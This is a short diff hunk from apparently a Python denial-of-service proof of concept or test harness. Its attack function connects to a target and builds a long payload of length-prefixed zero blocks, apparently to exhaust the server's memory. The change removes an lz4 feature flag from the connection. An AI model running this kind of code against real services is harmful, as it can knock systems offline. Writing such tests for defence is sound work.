@@ -29,7 +29,7 @@ GREW_MIB = 32
 
 def attack(target: Target) -> None:
     """Send all of each but the last block, and do so again."""
-    link = target.joined(features="lz4")
+    link = target.joined()
     drained(link.socket)
     block = _zeros()
     most = (struct.pack("<I", len(block)) + block) * (EACH_BYTES // BLOCK_BYTES - 1)
